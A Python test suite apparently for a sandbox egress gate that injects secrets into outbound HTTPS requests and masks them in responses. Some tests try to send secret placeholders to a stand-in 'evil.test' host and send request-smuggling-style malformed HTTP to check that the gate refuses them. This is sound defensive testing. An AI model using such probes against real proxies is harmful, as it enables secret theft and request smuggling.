"""Secrets that are put into requests at the gate: the box never holds them.

The servers are real (internet.py), with certificates of an authority that the gate is
told to trust; the clients in the box are curl, Python and Node, as they come.
"""

import base64
import json
import os
from urllib.parse import quote

import pytest

import paddock
from canary import canary, forms, in_files, in_memory, nowhere
from internet import internet
from test_e2b import E2B
from test_pool import drain
from test_secrets import kill_vault, put
from verdicts import last


@pytest.fixture(scope="module")
def net(workdir):
    with internet(workdir / "world-inject", ("api.test", "site.test", "evil.test", "x.a.test")) as world:
        world.set("unknown.test", world.host(20))  # its servers have no certificate for this name
        yield world


@pytest.fixture(scope="module")
def site(daemon_factory, net):
    daemon = daemon_factory("inject", environment=net.environment).start()
    yield daemon
    daemon.finish()


@pytest.fixture
def client(site):
    it = site.client()
    yield it
    it.close()


def inject(host, *what, **more):
    return {"action": "allow", "host": host, "inject": list(what), **more}


def allow(host, **more):
    return {"action": "allow", "host": host, **more}


@pytest.fixture
def make(client):
    with paddock.boxes_of(client) as create:
        yield lambda *rules, **spec: create(egress={"rules": list(rules)}, **spec)


@pytest.fixture
def value(client):
    it = canary()
    assert put(client, "TOKEN", it).status in (200, 201)
    return it


def curl(box, *arguments, **options):
    return box.exec(["curl", "-sS", "-m", "20", *arguments], **options)


def requests_seen(net):
    return [each for each in net.seen() if "method" in each]


# ---- putting in ------------------------------------------------------------


def test_header(net, make, value):
    box = make(inject("api.test", {"secret": "TOKEN", "header": "Authorization", "prefix": "Bearer "}))
    net.seen()
    # whatever the box says there itself is replaced
    answer = curl(box, "https://api.test/v1/things?a=b", "-H", "Authorization: Bearer mine", "-H", "X-Other: kept")
    assert answer.exit_code == 0, answer
    (request,) = requests_seen(net)
    assert request["headers"]["authorization"] == f"Bearer {value}"
    assert request["headers"]["x-other"] == "kept" and request["path"] == "/v1/things?a=b" and request["sni"] == "api.test"
    # the server echoes what it got: masked
    echoed = json.loads(answer.out)
    assert echoed["headers"]["authorization"] == "Bearer " + "*" * len(value)
    assert echoed["headers"]["x-other"] == "kept"


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_plain_values(net, make, value, version):
    """A header with a value that is no secret: replaced as well, and not masked. No vault is asked."""
    long = "v" * 512
    box = make(inject("api.test", {"header": "X-Team", "value": "blue team"}, {"header": "X-Long", "value": long},
                      {"secret": "TOKEN", "header": "Authorization"}), inject("site.test", {"header": "X-Team", "value": "x"}))
    net.seen()
    answer = curl(box, version, "https://api.test/", "-H", "X-Team: mine")
    assert answer.exit_code == 0, answer
    (request,) = requests_seen(net)
    assert [request["headers"][name] for name in ("x-team", "x-long", "authorization")] == ["blue team", long, value]
    echoed = json.loads(answer.out)["headers"]
    assert echoed["x-team"] == "blue team" and echoed["authorization"] == "*" * len(value)
    assert json.loads(curl(box, version, "https://site.test/").out)["headers"]["x-team"] == "x"


def test_plain_values_of_e2b(net, site, client):
    e2b = E2B(site, site.key)
    rules = {"api.test": [{"transform": {"headers": {"X-Plain": "as it is", "X-Other": "$5 {not} a place"}}}]}
    made = e2b.create(network={"allowOut": ["api.test"], "denyOut": ["0.0.0.0/0"], "rules": rules})
    box = paddock.Box(client, client.get(f"/v1/sandboxes/{made['sandboxID']}").json())
    net.seen()
    assert curl(box, "https://api.test/").exit_code == 0
    (request,) = requests_seen(net)
    assert (request["headers"]["x-plain"], request["headers"]["x-other"]) == ("as it is", "$5 {not} a place")
    assert e2b.call("GET", f"/sandboxes/{box.id}").json()["network"]["rules"] == rules
    for value in ("${e2b.identity.tokens.X}", "${e2b.secrets.A} and ${e2b.secrets.B}"):
        bad = {"api.test": [{"transform": {"headers": {"X": value}}}]}
        assert e2b.call("PUT", f"/sandboxes/{box.id}/network", {"rules": bad}).status == 501, value
    bad = {"api.test": [{"transform": {"headers": {"X": "v" * 513}}}]}
    assert e2b.call("PUT", f"/sandboxes/{box.id}/network", {"rules": bad}).status == 400
    e2b.close()


def test_as_clients_of_e2b_say_it(net, site, client):
    """Secrets and network.rules of E2B's API, on the sandbox's creation and later."""
    value, e2b = canary(), E2B(site, site.key)
    assert e2b.call("POST", "/secrets", {"name": "E2B-Key", "value": value}).status == 201
    rules = {"api.test": [{"transform": {"headers": {"X-Key": "Key ${e2b.secrets.E2B-Key}"}}}]}
    try:
        made = e2b.create(network={"allowOut": ["api.test", "site.test"], "denyOut": ["0.0.0.0/0"], "rules": rules})
        box = paddock.Box(client, client.get(f"/v1/sandboxes/{made['sandboxID']}").json())
        net.seen()
        for host in ("api.test", "site.test"):
            assert curl(box, f"http://{host}/" if host == "site.test" else f"https://{host}/").exit_code == 0
        assert [request["headers"].get("x-key") for request in requests_seen(net)] == [f"Key {value}", None]
        assert curl(box, "http://evil.test/", "-f").exit_code != 0, "what is not allowed stays closed"
        assert e2b.call("PUT", f"/sandboxes/{box.id}/network", {"allowOut": ["site.test"], "denyOut": ["0.0.0.0/0"]}).status == 204
        assert curl(box, "https://api.test/", "-f").exit_code != 0
    finally:
        e2b.call("DELETE", "/secrets/e2b-key")
        e2b.close()


def test_query_and_placeholders(net, make, value, client):
    other = "sp ace/&?=" + canary()
    assert put(client, "OTHER", other).status in (200, 201)
    box = make(inject("api.test", {"secret": "OTHER", "query": "key"}, {"secret": "TOKEN", "placeholder": True}))
    net.seen()
    answer = curl(box, "--globoff", "https://api.test/bot{{secret.TOKEN}}/x?key=mine&t=%7B%7Bsecret.TOKEN%7D%7D&u=1",
                  "-H", "X-Key: a {{secret.TOKEN}} b", "-d", '{"token": "{{secret.TOKEN}}", "twice": "{{secret.TOKEN}}"}')
    assert answer.exit_code == 0, answer
    (request,) = requests_seen(net)
    assert request["path"].startswith(f"/bot{value}/x?t={value}&u=1&key=sp%20ace%2F%26%3F%3Dcanary-")
    assert request["headers"]["x-key"] == f"a {value} b"
    assert json.loads(request["body"]) == {"token": value, "twice": value}
    assert value not in answer.text and other not in answer.text and answer.text.count("*" * len(value)) >= 4
    # -u user:password
    answer = curl(box, "https://api.test/", "-u", "me:{{secret.TOKEN}}")
    (request,) = requests_seen(net)
    assert base64.b64decode(request["headers"]["authorization"].removeprefix("Basic ")).decode() == f"me:{value}"
    assert request["headers"]["authorization"].removeprefix("Basic ") not in answer.text


def test_large_body_is_rewritten_in_pieces(net, make, value):
    box = make(inject("api.test", {"secret": "TOKEN", "placeholder": True}))
    net.seen()
    box.check("python3 -c \"import sys; sys.stdout.write('x' * 1500000 + '{{secret.TOKEN}}' + 'y' * 70000 + '{{secret.TOKEN}}')\" > /tmp/big")
    answer = curl(box, "https://api.test/up", "--data-binary", "@/tmp/big", "-o", "/dev/null", "-w", "%{http_code}")
    assert answer.text == "200", answer
    (request,) = requests_seen(net)
    assert request["body"] == "x" * 1500000 + value + "y" * 70000 + value


def test_paths_methods_and_keep_alive(net, make, value):
    """Each request of a connection is judged; without a matching rule there is no secret and no request."""
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}, paths=["/open"], methods=["GET"]))
    net.seen()
    script = """
import http.client, json, ssl, sys
c = http.client.HTTPSConnection("api.test", context=ssl.create_default_context(), timeout=20)
result = []
for method, path in (("GET", "/open/1"), ("GET", "/open"), ("GET", "/opened"), ("POST", "/open")):
    try:
        c.request(method, path)
        r = c.getresponse()
        result.append([r.status, r.read().decode()])
    except (http.client.HTTPException, OSError) as e:
        result.append([0, repr(e)])
    if c.sock is None:
        c.connect()
print(json.dumps(result))
"""
    result = box.python_json(script)
    assert [status for status, _ in result] == [200, 200, 403, 403], result
    assert [(r["path"], r["headers"].get("x-key")) for r in requests_seen(net)] == [("/open/1", value), ("/open", value)]


@pytest.mark.parametrize("rules", [
    [allow("api.test", methods=["GET"], paths=["/open"])],
    [allow("api.test", protocol="tls", methods=["GET"], paths=["/open"])],
    [{"action": "deny", "host": "api.test", "methods": ["POST"]}, {"action": "deny", "host": "api.test", "paths": ["/opened"]}, allow("api.test")],
], ids=["allow", "allow-tls", "deny"])
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_methods_and_paths_of_tls_without_secrets(net, make, rules, version):
    """A rule that asks for methods or paths has the gate look: as it comes, the client trusts what it sees."""
    box = make(*rules, allow("site.test"))
    net.seen()

    def status(*arguments):
        return curl(box, version, "-o", "/dev/null", "-w", "%{http_code}", *arguments).text

    assert [status("https://api.test/open/1"), status("https://api.test/opened"), status("-d", "x", "https://api.test/open")] == ["200", "403", "403"]
    assert [(r["method"], r["path"]) for r in requests_seen(net)] == [("GET", "/open/1")]
    assert last(box, verdict="deny", method="POST", path="/open")["host"] == "api.test"
    # Another host's TLS is passed as it is: its certificate is its own, which the box does not know.
    assert "certificate" in curl(box, "https://site.test/").err.decode()


def test_the_target_of_a_command_line(net, make, client):
    box = make()
    assert client.post(f"{box.path}/egress/rules", {"action": "allow", "targets": ["https://api.test/open"]}).status == 200
    assert [curl(box, "-o", "/dev/null", "-w", "%{http_code}", f"https://api.test/{path}").text for path in ("open", "closed")] == ["200", "403"]


def test_the_first_rule_for_a_host_decides(net, make, client, value):
    """One without secrets, put before: the host is reached, and nothing is put in."""
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}))
    net.seen()
    assert curl(box, "https://api.test/").exit_code == 0
    assert client.post(f"{box.path}/egress/rules", {"action": "allow", "targets": ["api.test"]}).status == 200
    assert curl(box, "https://api.test/").exit_code == 0
    assert [request["headers"].get("x-key") for request in requests_seen(net)] == [value, None]


def test_other_hosts_are_not_looked_into(net, make, value):
    """TLS of a host without `inject` passes as it is, placeholders and all."""
    box = make(inject("api.test", {"secret": "TOKEN", "placeholder": True}), allow("site.test"))
    box.put("/tmp/ca.pem", net.authority.read_bytes())
    net.seen()
    answer = curl(box, "--cacert", "/tmp/ca.pem", "https://site.test/", "-H", "X-Key: {{secret.TOKEN}}")
    assert answer.exit_code == 0, answer
    (request,) = requests_seen(net)
    assert request["headers"]["X-Key"] == "{{secret.TOKEN}}" and "accept-encoding" not in request["headers"]
    # it is the server's own certificate that the box sees there, and the gate's where it looks inside
    assert curl(box, "https://site.test/").exit_code == 60
    assert curl(box, "--cacert", "/tmp/ca.pem", "https://api.test/").exit_code == 60


def test_a_secret_stays_with_its_host(net, make, value, client):
    """Two hosts that are looked into, each with a secret of its own."""
    other = canary()
    assert put(client, "OTHER", other).status in (200, 201)
    box = make(inject("api.test", {"secret": "TOKEN", "placeholder": True}), inject("evil.test", {"secret": "OTHER", "placeholder": True}))
    net.seen()
    for arguments in (("-H", "X-Key: {{secret.TOKEN}}"), ("-d", "{{secret.TOKEN}}"), ("-u", "x:{{secret.TOKEN}}"),
                      ("-d", "{{secret.NONE}}"), ("-H", "X-Key: {{secret.NONE}}")):
        answer = curl(box, "https://evil.test/", "-w", "%{http_code}", *arguments)
        assert "403" in answer.text and value not in answer.text, answer
    assert requests_seen(net) == []
    # by the name of one and the connection of the other
    answer = curl(box, "https://evil.test/", "-H", "Host: api.test", "-H", "X-Key: {{secret.TOKEN}}", "-w", "%{http_code}")
    assert "403" in answer.text
    assert requests_seen(net) == []
    # and in clear there is nothing at all
    curl(box, "http://api.test/", "-H", "X-Key: {{secret.TOKEN}}")
    assert all(value not in json.dumps(each) for each in requests_seen(net))


@pytest.mark.parametrize("how", ["chunks", "close", "gzip", "base64", "header"])
def test_masked_however_it_comes_back(net, make, value, how):
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}))
    answer = curl(box, "-i", "--raw", f"https://api.test/echo/{how}", "-H", "X-Want: x-key")
    text = answer.out
    assert not any(form in text for form in forms(value)), text
    if how == "gzip":
        assert b"502" in text
    elif how == "base64":
        assert b"before" in text and b"after" in text
    else:
        assert b"***" in text and b"200 OK" in text, text


def test_masked_as_it_was_put_into_the_target(net, make, client):
    """A server that says the address back, as many do: there the value stands escaped."""
    secret = canary() + "/+=&\\'x"
    assert put(client, "SLASHED", secret).status in (200, 201)
    box = make(inject("api.test", {"secret": "SLASHED", "query": "key"}))
    net.seen()
    answer = curl(box, "https://api.test/say").text
    escaped = quote(secret, safe="")
    assert escaped in requests_seen(net)[0]["path"]  # the control: it was there to be said
    assert escaped not in answer and "key=***" in answer, answer


def test_half_of_it_is_not_asked_for(net, make, value):
    """A value that comes back in two answers would be found in neither; in frames that are packed likewise."""
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}), allow("site.test"))
    spans = ("0-15", "16-")
    # The control: this server does send what is asked for, to whoever says the value himself.
    halves = [curl(box, "-k", "-r", span, "https://site.test/echo/part", "-H", "X-Want: x-key", "-H", f"X-Key: {value}").text for span in spans]
    assert value in "".join(halves) and not any(value in half for half in halves), halves
    net.seen()
    for more in ([], ["--http1.1"]):
        halves = [curl(box, *more, "-r", span, "https://api.test/echo/part", "-H", "X-Want: x-key", "-H", "If-Range: x",
                       "-H", "Sec-WebSocket-Extensions: permessage-deflate").text for span in spans]
        assert all("*" * len(value) in half for half in halves), halves
    got = {name.lower() for each in requests_seen(net) for name in each["headers"]}
    assert "x-key" in got and not {"range", "if-range", "sec-websocket-extensions"} & got


def test_servers_certificate_is_checked(net, make, value):
    box = make(inject("unknown.test", {"secret": "TOKEN", "header": "X-Key"}), inject("api.test", {"secret": "TOKEN", "header": "X-Key"}))
    net.seen()
    answer = curl(box, "https://unknown.test/", "-w", "%{http_code}")
    assert "502" in answer.text and "hostname mismatch" in answer.text, answer
    assert requests_seen(net) == []
    assert curl(box, "https://api.test/").exit_code == 0
    assert len(requests_seen(net)) == 1


def test_websocket_passes_and_is_masked(net, make, value):
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}))
    script = f"""
import socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443), 20), server_hostname="api.test")
s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: api.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n")
head = b""
while b"\\r\\n\\r\\n" not in head: head += s.recv(4096)
assert b"101" in head.split(b"\\r\\n")[0], head
s.sendall(b"hello {value[:10]}")
s.sendall(b"{value[10:]} end")
got = b""
while not got.endswith(b" end"): got += s.recv(4096)
print(got.decode())
"""
    output = box.python(script)
    assert output.text == "hello " + "*" * len(value) + " end\n", output


def test_connections_that_are_looked_into_are_limited(net, make, value):
    """Each may hold much in the gate; and who has too many is told so, and works on with fewer."""
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}), limits={"nofile": 1024})
    script = """
import socket, ssl
trust, held, refused = ssl.create_default_context(), [], 0
def ask():
    s = trust.wrap_socket(socket.create_connection(("api.test", 443), 20), server_hostname="api.test")
    held.append(s)
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
    assert s.recv(9999).startswith(b"HTTP/1.1 200")
for i in range(260):
    try:
        ask()
    except OSError:
        refused += 1
print(len(held), refused)
held.pop().close()
for i in range(50):
    try:
        ask()
        print("again")
        break
    except OSError:
        pass
"""
    output = box.python(script, timeout_ms=60000)
    assert output.text == "256 4\nagain\n", output


def test_bodies_that_wait_are_limited(net, make, value):
    """A body with placeholders waits in the gate for its length; where a box has too many, they go on in chunks."""
    box = make(inject("api.test", {"secret": "TOKEN", "placeholder": True}))
    net.seen()
    script = """
import socket, ssl
trust, held, size = ssl.create_default_context(), [], 1000000
for i in range(48):
    s = trust.wrap_socket(socket.create_connection(("api.test", 443), 20), server_hostname="api.test")
    s.sendall(b"POST /%d HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: %d\\r\\n\\r\\n" % (i, size))
    s.sendall(b"{{secret.TOKEN}}" + b"x" * (size - 17))
    held.append(s)
for s in held:
    s.sendall(b".")
    got = s.recv(9999)
    assert got.startswith(b"HTTP/1.1 200"), (got, held.index(s))
s.sendall(b"POST /again HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 2\\r\\n\\r\\nok")
while b"again" not in s.recv(9999): pass
print("all")
"""
    output = box.python(script, timeout_ms=60000)
    assert output.text == "all\n", output
    seen = [each for each in requests_seen(net) if each["method"] == "POST"]
    lengths = ["content-length" in each["headers"] for each in seen if each["path"] != "/again"]
    assert len(lengths) == 48 and 33 <= lengths.count(True) < 48, lengths  # the gate may be late with counting some
    assert all(each["body"].startswith(value) and each["body"].endswith("x.") for each in seen if each["path"] != "/again")
    # What they took is given back.
    assert [each["headers"]["content-length"] for each in seen if each["path"] == "/again"] == ["2"]


def test_each_request_is_a_verdict(site, make, value):
    """Also within one connection: kept, and a line of the audit with its reason; never what stands behind the path."""
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}, paths=["/open"]))
    curl(box, "https://api.test/open?hidden=1", "https://api.test/shut?hidden=1")
    passed, refused = last(box, path="/open"), last(box, path="/shut")
    assert (passed["verdict"], passed["rule"], passed["method"], passed["host"]) == ("allow", "rules[0]", "GET", "api.test")
    assert (refused["verdict"], refused["reason"], refused["port"]) == ("deny", "no_rule", 443)
    lines = [line for line in paddock.read(site.log_file).splitlines() if f"box={box.id} tenant=default" in line]
    assert [line for line in lines if "egress allowed" in line and 'path="/open"' in line and 'address="' in line]
    assert [line for line in lines if "egress denied" in line and 'path="/shut"' in line and "reason=no_rule" in line]
    assert "hidden" not in "".join(lines)


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_a_secret_that_is_missing_is_said_to_be(make, version):
    """To allow the host once more would not help, so that is not advised."""
    box = make(inject("api.test", {"secret": "NOT_SET", "header": "X-Key"}))
    assert "403" in curl(box, version, "https://api.test/m", "-w", "%{http_code}").text
    said = last(box, verdict="deny", path="/m")
    assert (said["reason"], said["would_allow"]) == ("secret", None)


# ---- clients ---------------------------------------------------------------


def test_clients_trust_by_themselves(net, make, value):
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}))
    net.seen()
    url = "https://api.test/c"
    programs = {
        "curl": ["curl", "-sSf", "-m", "20", url],
        "urllib": ["/usr/bin/python3", "-c", f"import urllib.request; print(urllib.request.urlopen('{url}', timeout=20).read())"],
        "node": ["node", "-e", f"require('https').get('{url}', r => r.pipe(process.stdout)).on('error', e => {{ console.log(e); process.exit(1) }})"],
        "openssl": ["bash", "-c", "printf 'GET /c HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n' | openssl s_client -quiet -x509_strict -verify_return_error -connect api.test:443 -servername api.test"],
    }
    if box.exec(["/usr/bin/python3", "-c", "import requests"]).exit_code == 0:
        programs["requests"] = ["/usr/bin/python3", "-c", f"import requests; print(requests.get('{url}', timeout=20).text)"]
    for name, program in programs.items():
        output = box.exec(program)
        assert output.exit_code == 0, (name, output)
        (request,) = requests_seen(net)
        assert request["headers"]["x-key"] == value, name
        assert value not in output.text
    # also without the variables: it is in the store of the image
    assert box.exec(["env", "-u", "SSL_CERT_FILE", "-u", "CURL_CA_BUNDLE", "curl", "-sSf", "-m", "20", url]).exit_code == 0


HOSTILE = r"""
import json, socket, ssl
trusting = ssl.create_default_context()
def raw(*pieces, wait=True):
    s = socket.create_connection(("api.test", 443), 20)
    for piece in pieces: s.sendall(piece)
    try:
        return s.recv(65536) if wait else b""
    except OSError:
        return b""
    finally:
        s.close()
def inside(*pieces, read=True):
    s = trusting.wrap_socket(socket.create_connection(("api.test", 443), 20), server_hostname="api.test")
    got = b""
    try:
        for piece in pieces: s.sendall(piece)
        while read and (data := s.recv(65536)):
            got += data
    except OSError:
        pass
    finally:
        s.close()
    return got.split(b"\r\n")[0].decode("latin-1")
host = b"Host: api.test\r\n"
hello = b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"
raw(hello)
raw(b"\x16\x03\x01\x02\x00" + b"\x01\x00\x01\xfc" + b"\x00" * 508)
result = {
    "not http": inside(b"\x00\x01\x02 nonsense\r\n\r\n"),
    "no host": inside(b"GET / HTTP/1.1\r\n\r\n"),
    "two lengths": inside(b"POST / HTTP/1.1\r\n" + host + b"Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
    "both": inside(b"POST / HTTP/1.1\r\n" + host + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    "huge head": inside(b"GET / HTTP/1.1\r\n" + host + b"X: " + b"x" * 100000 + b"\r\n\r\n"),
    "bad chunk": inside(b"POST / HTTP/1.1\r\n" + host + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n"),
    "cut body": inside(b"POST / HTTP/1.1\r\n" + host + b"Content-Length: 100\r\n\r\nabc", read=False),
    "cut head": inside(b"GET / HTT", read=False),
    "pipelined": inside(b"GET /1 HTTP/1.1\r\n" + host + b"\r\nGET /2 HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n"),
    "other host": inside(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
    "absolute": inside(b"GET https://evil.test/ HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"),
    "folded": inside(b"GET / HTTP/1.1\r\n" + host + b"X-Key: a\r\n b\r\n\r\n"),
}
print(json.dumps(result))
"""


def test_hostile_clients(net, make, value, site):
    """Nothing that a box sends brings the gate down, or a request with a secret to where it does not belong."""
    gate = [pid for pid, name in site.programs().items() if name == "paddock-gate"]
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}, {"secret": "TOKEN", "placeholder": True}), allow("evil.test"))
    net.seen()
    result = box.python_json(HOSTILE)
    refused = ("not http", "no host", "two lengths", "both", "huge head", "bad chunk", "other host", "folded")
    assert all(not result[name].startswith("HTTP/1.1 2") for name in refused), result
    assert result["pipelined"] == "HTTP/1.1 200 OK", result
    seen = requests_seen(net)
    assert [each["path"] for each in seen if each["path"] in ("/1", "/2")] == ["/1", "/2"]
    assert all(each["sni"] == "api.test" and each["host"] == "api.test" and each["headers"]["x-key"] == value for each in seen)
    assert [pid for pid, name in site.programs().items() if name == "paddock-gate"] == gate
    assert curl(box, "https://api.test/").exit_code == 0


def test_policy_changes_while_it_runs(net, make, value, client):
    box = make(allow("site.test"))
    assert curl(box, "https://api.test/").exit_code != 0
    response = client.send_json("PUT", f"{box.path}/egress", {"rules": [inject("api.test", {"secret": "TOKEN", "header": "X-Key"})]})
    assert response.status == 200, response
    assert response.json()["policy"]["rules"][0]["inject"] == [{"secret": "TOKEN", "header": "X-Key"}]
    net.seen()
    assert curl(box, "https://api.test/").exit_code == 0
    assert requests_seen(net)[0]["headers"]["x-key"] == value
    # a new value is used at once, a removed one refuses
    assert put(client, "TOKEN", "brand-new-value").status == 200
    curl(box, "https://api.test/")
    assert requests_seen(net)[0]["headers"]["x-key"] == "brand-new-value"
    assert client.delete("/v1/secrets/TOKEN").status == 204
    answer = curl(box, "https://api.test/", "-w", "%{http_code}")
    assert "403" in answer.text and requests_seen(net) == []
    # a box's own goes before the tenant's
    assert put(client, "TOKEN", "of-the-tenant").status == 201
    assert put(client, "TOKEN", "of-the-box", box).status == 201
    curl(box, "https://api.test/")
    assert requests_seen(net)[0]["headers"]["x-key"] == "of-the-box"


def test_vault_killed(net, make, value, site):
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}))
    assert curl(box, "https://api.test/").exit_code == 0
    kill_vault(site)
    net.seen()

    def works():
        answer = curl(box, "https://api.test/", "-w", "%{http_code}")
        # while it is away: an answer that says so, never a request without its secret
        assert all(each["headers"].get("x-key") == value for each in requests_seen(net))
        return answer.text.endswith("200")

    paddock.until(works, "requests have their secret again", 20)


ASKING = r"""
import http.client, os, ssl
context, bad, n = ssl.create_default_context(), [], 0
while not os.path.exists("/workspace/stop"):
    c = http.client.HTTPSConnection("api.test", context=context, timeout=20)
    for _ in range(5):  # a new connection needs a certificate of the vault's, each request a secret
        c.request("GET", f"/{n}")
        r = c.getresponse()
        r.read()
        n += 1
        if r.status != 200: bad.append((n, r.status))
    c.close()
print(n, bad)
"""


def test_rotation_while_requests_are_under_way(net, make, value, client, site):
    """A new master key: no request fails, and every one has its secret. E2B's secrets are the same ones."""
    e2b, key = E2B(site, site.key), canary()
    for number in range(20):  # so that it takes a moment
        assert put(client, f"MORE_{number}", "x" * 20000).status in (200, 201)
    assert e2b.call("POST", "/secrets", {"name": "rotated", "value": key}).status == 201
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}, {"secret": "rotated", "header": "X-Other"}))
    net.seen()
    started = client.post(f"{box.path}/processes", {"argv": ["/usr/bin/python3", "-c", ASKING], "tag": "asking"})
    assert started.status == 201, started
    keys, seen = set(), []

    def more():
        new = requests_seen(net)
        seen.extend(new)
        return new

    paddock.until(more, "a request")
    for _ in range(3):
        answer = client.post("/v1/vault/rotate", {})
        assert answer.status == 200 and answer.json()["resealed"] > 20, answer
        keys.add((site.data_dir / "vault" / "master.key").read_text())
        paddock.until(more, "another request")
    assert len(keys) == 3
    box.put("/workspace/stop", b"")
    result = paddock.until(lambda: (done := client.get(f"{box.path}/processes/asking").json())["running"] is False and done, "it is done", 30)
    assert result["exit"]["exit_code"] == 0, result
    seen.extend(requests_seen(net))
    output = client.get(f"{box.path}/processes/asking/output").json()["stdout"]["data"]
    assert output == f"{len(seen)} []\n" and len(seen) >= 4  # the first, and one after each new key
    assert {(each["headers"]["x-key"], each["headers"]["x-other"]) for each in seen} == {(value, key)}
    for number in range(20):
        client.delete(f"/v1/secrets/MORE_{number}")
    assert e2b.call("DELETE", "/secrets/rotated").status in (200, 204)
    e2b.close()


def test_warm_boxes_and_policies_of_the_tenant(net, own_daemon, tmp_path):
    """A box that was started before anybody had a policy for it trusts the gate all the same."""
    config = tmp_path / "pool.yaml"
    config.write_text("pool:\n  machine:\n    warm: 1\n")
    daemon = own_daemon(arguments=["--config", str(config)],
                        environment=net.environment)
    daemon.start()
    client, token = daemon.client(), canary()
    assert put(client, "TOKEN", token).status == 201
    rules = {"rules": [inject("api.test", {"secret": "TOKEN", "header": "X-Key"})]}
    assert client.send_json("PUT", "/v1/tenants/default/egress", rules).status == 200

    def claim():
        before = os.listdir(daemon.run_dir / "boxes")
        made = client.create()
        if made.id in before:
            return made
        made.delete()
        return None

    box = paddock.until(claim, "a box that was warm", 20)
    assert "CACertificates" in box.check("cat /etc/chromium/policies/managed/paddock.json")
    net.seen()
    assert curl(box, "https://api.test/").exit_code == 0
    assert requests_seen(net)[0]["headers"]["x-key"] == token
    client.close()
    daemon.config = config
    drain(daemon)


@pytest.mark.parametrize("rule, names", [
    ({"action": "deny", "host": "a.test", "inject": [{"secret": "A", "header": "X"}]}, "inject"),
    ({"action": "allow", "host": "*", "inject": [{"secret": "A", "header": "X"}]}, "inject"),
    ({"action": "allow", "cidr": "192.0.2.0/24", "inject": [{"secret": "A", "header": "X"}]}, "inject"),
    ({"action": "allow", "host": "a.test", "protocol": "tcp", "inject": [{"secret": "A", "header": "X"}]}, "inject"),
    ({"action": "allow", "host": "a.test", "inject": []}, "inject"),
    ({"action": "allow", "host": "a.test", "inject": [{"secret": "A"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"secret": "A", "header": "X", "query": "y"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"secret": "A", "header": "Host"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"secret": "A", "header": "a b"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"secret": "A", "query": "a&b"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"header": "X"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"value": "v"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"value": "v", "header": "Host"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"value": "v", "query": "q"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"value": "v", "header": "X", "secret": "A"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"value": "a\nb", "header": "X"}]}, "inject[0]"),
    ({"action": "allow", "host": "a.test", "inject": [{"secret": "A", "header": "X", "prefix": "a\nb"}]}, "inject[0]"),
])
def test_bad_rules(client, rule, names):
    response = client.try_create(egress={"rules": [rule]})
    assert response.code() == "invalid_argument" and names in response.json()["error"]["message"], response


# ---- the canary ------------------------------------------------------------


HELD = r"""
import socket, ssl, sys
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443), 20), server_hostname="api.test")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
while b"\r\n\r\n" not in s.recv(4096): pass
s.sendall(b"echo")
assert s.recv(100) == b"echo"
print("open", flush=True)
sys.stdin.read()
"""


def test_canary(net, make, site, client, value):
    """While requests with the secret are under way only the gate has it, and nobody afterwards."""
    needles, planted = forms(value), "planted-" + "z" * 16
    box = make(inject("api.test", {"secret": "TOKEN", "header": "X-Key"}, {"secret": "TOKEN", "placeholder": True}), env={"PLANTED": planted})
    assert client.post(f"{box.path}/processes", {"argv": ["sleep", "60"]}).status == 201
    net.seen()
    # one that lasts: what comes back is masked until its end
    held = client.post(f"{box.path}/processes", {"argv": ["/usr/bin/python3", "-c", HELD], "tag": "held", "stdin": True})
    assert held.status == 201, held
    (request,) = paddock.until(lambda: requests_seen(net), "it has arrived")
    assert request["headers"]["x-key"] == value, "the control: it was sent"
    paddock.until(lambda: client.get(f"{box.path}/processes/held/output").json()["stdout"]["data"] == "open\n", "it is under way")
    assert in_memory(site, needles, box) == {"paddock-gate"}
    answer = curl(box, "https://api.test/", "-H", "X-Other: {{secret.TOKEN}}", "-d", "{{secret.TOKEN}}", "-o", "/workspace/answer")
    assert answer.exit_code == 0
    (request,) = requests_seen(net)
    assert request["headers"]["x-key"] == value and request["body"] == value
    for how in ("chunks", "gzip", "header"):  # and it is sent back
        curl(box, f"https://api.test/echo/{how}", "-H", "X-Want: x-key")
